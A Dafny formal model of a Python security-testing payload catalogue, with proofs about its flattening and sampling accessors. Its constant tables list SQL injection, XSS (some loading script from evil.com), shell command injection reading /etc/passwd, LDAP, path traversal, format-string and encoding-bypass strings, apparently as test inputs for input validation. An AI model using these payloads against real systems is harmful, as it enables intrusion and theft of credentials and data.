/** The payload catalogue of `SecurityPayloads`: class-level constant tables of
    attack strings, and the accessors that flatten or sample them. A Python dict
    of lists is modelled as a `Table`, a sequence of named categories in
    declaration order, which is the order `dict.values()` yields them in. */
module SecurityPayloads {
  import opened Wrappers
  import opened Text

  /** One entry of a category dict: its key and its list of payloads. */
  datatype Category = Category(name: string, payloads: seq<string>)

  type Table = seq<Category>

  /** Keys of a table; a Python dict has each key once. */
  predicate HasKey(t: Table, name: string)
  {
    exists i :: 0 <= i < |t| && t[i].name == name
  }

  /** `d[name]`: the list stored under `name`. */
  function Find(t: Table, name: string): (r: seq<string>)
    requires HasKey(t, name)
    ensures exists i :: 0 <= i < |t| && t[i].name == name && t[i].payloads == r
  {
    if t[0].name == name then t[0].payloads else Find(t[1..], name)
  }

  // ---------------------------------------------------------------------------
  // The catalogue (utils/security_payloads.py:9-196)

  const SqlBasicOr: seq<string> := [
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR '1'='1' #",
    "' OR 1=1 --",
    "admin' OR '1'='1",
    "admin' OR '1'='1' --",
    "admin' OR '1'='1' #",
    "admin' OR 1=1 --",
    "admin'/**/OR/**/1=1",
    "admin' OR 'x'='x",
    "') OR ('1'='1",
    "') OR ('1'='1' --"
  ]

  const SqlUnion: seq<string> := [
    "' UNION SELECT 1,2,3 --",
    "' UNION SELECT NULL,NULL,NULL --",
    "' UNION ALL SELECT 1,2,3 --",
    "' UNION SELECT username,password FROM users --",
    "' UNION SELECT @@version --",
    "' UNION SELECT database() --",
    "' UNION SELECT user() --",
    "admin' UNION SELECT 1,2,3 --",
    "admin' UNION SELECT NULL,NULL,NULL --"
  ]

  const SqlTimeBased: seq<string> := [
    "'; WAITFOR DELAY '00:00:05' --",
    "' AND (SELECT COUNT(*) FROM sysobjects) > 0 WAITFOR DELAY '00:00:05' --",
    "'; SELECT SLEEP(5) --",
    "' AND SLEEP(5) --",
    "'; pg_sleep(5) --",
    "' AND pg_sleep(5) --",
    "'; BENCHMARK(5000000,MD5(1)) --"
  ]

  const SqlErrorBased: seq<string> := [
    "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e)) --",
    "' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a) --",
    "' AND 1=CONVERT(int,(SELECT @@version)) --",
    "' AND 1=CAST((SELECT @@version) AS int) --",
    "' AND 1=(SELECT TOP 1 table_name FROM information_schema.tables) --"
  ]

  const SqlBooleanBased: seq<string> := [
    "' AND 1=1 --",
    "' AND 1=2 --",
    "' AND 'a'='a",
    "' AND 'a'='b",
    "' AND ASCII(SUBSTRING((SELECT DATABASE()),1,1))>64 --",
    "' AND LENGTH(database())>5 --"
  ]

  /** `SQL_INJECTION`, keys in declaration order. */
  const SqlInjection: Table := [
    Category("basic_or", SqlBasicOr),
    Category("union", SqlUnion),
    Category("time_based", SqlTimeBased),
    Category("error_based", SqlErrorBased),
    Category("boolean_based", SqlBooleanBased)
  ]

  const XssScriptTags: seq<string> := [
    "<script>alert('XSS')</script>",
    "<script>alert(\"XSS\")</script>",
    "<script>alert(`XSS`)</script>",
    "<script>confirm('XSS')</script>",
    "<script>prompt('XSS')</script>",
    "<script>document.location='http://evil.com'</script>",
    "<script src='http://evil.com/xss.js'></script>"
  ]

  const XssEventHandlers: seq<string> := [
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<select onfocus=alert('XSS') autofocus>",
    "<textarea onfocus=alert('XSS') autofocus>",
    "<button onclick=alert('XSS')>Click</button>",
    "<div onmouseover=alert('XSS')>Hover</div>"
  ]

  const XssJavascriptProtocol: seq<string> := [
    "javascript:alert('XSS')",
    "javascript:alert(\"XSS\")",
    "javascript:confirm('XSS')",
    "javascript:prompt('XSS')",
    "javascript:document.location='http://evil.com'"
  ]

  const XssIframeAttacks: seq<string> := [
    "<iframe src=javascript:alert('XSS')></iframe>",
    "<iframe src='http://evil.com'></iframe>",
    "<iframe onload=alert('XSS')></iframe>"
  ]

  const XssAttributeInjection: seq<string> := [
    "\" onmouseover=\"alert('XSS')\"",
    "' onclick='alert(\"XSS\")'",
    "\" autofocus onfocus=\"alert('XSS')\"",
    "' style='expression(alert(\"XSS\"))'",
    "\" href=\"javascript:alert('XSS')\""
  ]

  /** `XSS_PAYLOADS`, keys in declaration order. */
  const XssPayloads: Table := [
    Category("script_tags", XssScriptTags),
    Category("event_handlers", XssEventHandlers),
    Category("javascript_protocol", XssJavascriptProtocol),
    Category("iframe_attacks", XssIframeAttacks),
    Category("attribute_injection", XssAttributeInjection)
  ]

  const CommandInjection: seq<string> := [
    "; cat /etc/passwd",
    "| whoami",
    "& dir",
    "&& ls -la",
    "|| ping 127.0.0.1",
    "`id`",
    "$(whoami)",
    "; ls /",
    "| type %SYSTEMROOT%\\win.ini",
    "&& net user",
    "; uname -a",
    "| ps aux"
  ]

  const LdapInjection: seq<string> := [
    ")(&)",
    ")(|(objectClass=*))",
    "))(|(objectClass=*",
    "*)(&(objectClass=*",
    ")(&(objectClass=*)(objectClass=*))",
    ")(&)",
    "*)|(objectClass=*",
    "admin)(&(password=*))",
    "*)(uid=*))(|(uid=*"
  ]

  const PathTraversal: seq<string> := [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "/etc/passwd%00",
    "....\\\\....\\\\....\\\\etc\\\\passwd"
  ]

  const FormatString: seq<string> := [
    "%s%s%s%s%s%s%s%s%s%s%s%s",
    "%x%x%x%x%x%x%x%x%x%x%x%x",
    "%n%n%n%n%n%n%n%n%n%n%n%n",
    "%08x.%08x.%08x.%08x.%08x",
    "AAAA%08x.%08x.%08x.%08x.%08x",
    "%d%d%d%d%d%d%d%d%d%d%d%d",
    "%c%c%c%c%c%c%c%c%c%c%c%c"
  ]

  /** `NULL_BYTE`; Python's "\x00" and "\u0000" are the same one-character string. */
  const NullByte: seq<string> := [
    "\0",
    "%00",
    "\U{0}",
    "%00.txt",
    "\0\0\0",
    "admin\0",
    "admin%00",
    "password\0extra"
  ]

  /** `ENCODING_BYPASS`, keys in declaration order. */
  const EncodingBypass: Table := [
    Category("url_encoded", [
      "%27%20OR%20%271%27%3D%271",
      "%3Cscript%3Ealert%28%27XSS%27%29%3C/script%3E",
      "%22%3E%3Cscript%3Ealert%28%29%3C/script%3E"
    ]),
    Category("double_url_encoded", [
      "%2527%2520OR%2520%25271%2527%253D%25271",
      "%253Cscript%253Ealert%2528%2527XSS%2527%2529%253C/script%253E"
    ]),
    Category("unicode", [
      "\U{27}\U{20}OR\U{20}\U{27}\U{31}\U{27}\U{3D}\U{27}\U{31}",
      "\U{3C}script\U{3E}alert\U{28}\U{27}XSS\U{27}\U{29}\U{3C}/script\U{3E}"
    ]),
    Category("html_entities", [
      "&#39; OR &#39;1&#39;=&#39;1",
      "&lt;script&gt;alert(&#39;XSS&#39;)&lt;/script&gt;",
      "&quot;&gt;&lt;script&gt;alert()&lt;/script&gt;"
    ])
  ]

  /** `BUFFER_OVERFLOW`: one run of 'A' per key. */
  const BufferOverflow: seq<(string, string)> := [
    ("small", Repeat('A', 100)),
    ("medium", Repeat('A', 1000)),
    ("large", Repeat('A', 10000)),
    ("huge", Repeat('A', 100000))
  ]

  predicate NoEmptyCategory(t: Table)
  {
    forall i :: 0 <= i < |t| ==> |t[i].payloads| > 0
  }

  /** Every category of the catalogue holds at least one payload, and the
      buffer-overflow strings are runs of 'A' ten times longer from key to key. */
  lemma CatalogueShape()
    ensures NoEmptyCategory(SqlInjection) && NoEmptyCategory(XssPayloads)
    ensures NoEmptyCategory(EncodingBypass)
    ensures |CommandInjection| > 0 && |LdapInjection| > 0 && |PathTraversal| > 0
    ensures |FormatString| > 0 && |NullByte| > 0
    ensures |BufferOverflow| == 4
    ensures forall i :: 0 <= i < |BufferOverflow| ==>
      forall j :: 0 <= j < |BufferOverflow[i].1| ==> BufferOverflow[i].1[j] == 'A'
    ensures |BufferOverflow[0].1| == 100 && |BufferOverflow[1].1| == 1000
    ensures |BufferOverflow[2].1| == 10000 && |BufferOverflow[3].1| == 100000
  {
  }

  // ---------------------------------------------------------------------------
  // Accessors (utils/security_payloads.py:198-222)

  /** The lists of a table joined end to end, in table order. */
  function Concat(t: Table): seq<string>
  {
    if t == [] then [] else Concat(t[..|t| - 1]) + t[|t| - 1].payloads
  }

  /** The total payload count of a table. */
  function TotalSize(t: Table): nat
  {
    if t == [] then 0 else TotalSize(t[..|t| - 1]) + |t[|t| - 1].payloads|
  }

  /** Flattening keeps every payload of every category and nothing else, and
      its length is the sum of the category sizes. */
  lemma {:induction false} ConcatContents(t: Table)
    ensures |Concat(t)| == TotalSize(t)
    ensures forall x :: x in Concat(t) <==> exists i :: 0 <= i < |t| && x in t[i].payloads
  {
    if t != [] {
      var init := t[..|t| - 1];
      ConcatContents(init);
      forall x | x in Concat(t)
        ensures exists i :: 0 <= i < |t| && x in t[i].payloads
      {
        if x in Concat(init) {
          var i :| 0 <= i < |init| && x in init[i].payloads;
          assert t[i] == init[i];
        } else {
          assert x in t[|t| - 1].payloads;
        }
      }
      forall x | exists i :: 0 <= i < |t| && x in t[i].payloads
        ensures x in Concat(t)
      {
        var i :| 0 <= i < |t| && x in t[i].payloads;
        if i < |t| - 1 {
          assert init[i] == t[i];
        }
      }
    }
  }

  /** A five-category table flattens to its five lists in order. */
  lemma ConcatOfFive(t: Table)
    requires |t| == 5
    ensures Concat(t) == t[0].payloads + t[1].payloads + t[2].payloads + t[3].payloads + t[4].payloads
  {
    assert t[..1][..0] == [];
    assert Concat(t[..1]) == t[0].payloads;
    assert t[..2][..1] == t[..1];
    assert Concat(t[..2]) == Concat(t[..1]) + t[1].payloads;
    assert t[..3][..2] == t[..2];
    assert Concat(t[..3]) == Concat(t[..2]) + t[2].payloads;
    assert t[..4][..3] == t[..3];
    assert Concat(t[..4]) == Concat(t[..3]) + t[3].payloads;
    assert t[..5][..4] == t[..4];
    assert t[..5] == t;
  }

  /** The accumulator loop of `get_all_sql_payloads` and `get_all_xss_payloads`:
      a fresh list extended with each category's list in turn. */
  method FlattenCategories(t: Table) returns (all: seq<string>)
    ensures all == Concat(t)
  {
    all := [];
    for i := 0 to |t|
      invariant all == Concat(t[..i])
    {
      assert t[..i + 1][..i] == t[..i];
      all := all + t[i].payloads;
    }
    assert t[..|t|] == t;
  }

  /** `get_all_sql_payloads`: the five SQL lists in declaration order. */
  method GetAllSqlPayloads() returns (all: seq<string>)
    ensures all == SqlBasicOr + SqlUnion + SqlTimeBased + SqlErrorBased + SqlBooleanBased
    ensures |all| == 39
    ensures all[..12] == SqlBasicOr && all[33..] == SqlBooleanBased
  {
    all := FlattenCategories(SqlInjection);
    ConcatOfFive(SqlInjection);
  }

  /** `get_all_xss_payloads`: the five XSS lists in declaration order. */
  method GetAllXssPayloads() returns (all: seq<string>)
    ensures all == XssScriptTags + XssEventHandlers + XssJavascriptProtocol + XssIframeAttacks + XssAttributeInjection
    ensures |all| == 28
    ensures all[..7] == XssScriptTags && all[23..] == XssAttributeInjection
  {
    all := FlattenCategories(XssPayloads);
    ConcatOfFive(XssPayloads);
  }

  /** Python's `s[:n]` for `n >= 0`: the whole list when it is shorter. */
  function Take(s: seq<string>, n: nat): (r: seq<string>)
    ensures |r| == if |s| < n then |s| else n
    ensures r <= s
  {
    if |s| <= n then s else s[..n]
  }

  /** `get_critical_payloads`: exactly the four kinds as keys, each holding the
      first three payloads of its source list. */
  function GetCriticalPayloads(): (r: map<string, seq<string>>)
    ensures r.Keys == {"sql", "xss", "command", "ldap"}
    ensures r["sql"] == SqlBasicOr[..3]
    ensures r["xss"] == XssScriptTags[..3]
    ensures r["command"] == CommandInjection[..3]
    ensures r["ldap"] == LdapInjection[..3]
    ensures forall k :: k in r ==> |r[k]| == 3
  {
    assert SqlInjection[0].name == "basic_or" && XssPayloads[0].name == "script_tags";
    map[
      "sql" := Take(Find(SqlInjection, "basic_or"), 3),
      "xss" := Take(Find(XssPayloads, "script_tags"), 3),
      "command" := Take(CommandInjection, 3),
      "ldap" := Take(LdapInjection, 3)
    ]
  }
}
